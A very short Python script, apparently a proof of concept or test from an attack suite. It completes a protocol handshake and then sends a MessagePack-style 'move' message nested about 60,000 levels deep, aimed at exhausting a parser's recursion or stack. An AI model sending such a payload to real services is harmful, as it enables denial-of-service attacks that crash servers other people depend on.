"""It nests lists tens of thousands deep."""

import time

from attack import framed, handshake, next_ask, write

handshake()
next_ask()
write(framed(b"\x81\xa4move" + b"\x91" * 60000 + b"\xc0"))
time.sleep(1000)
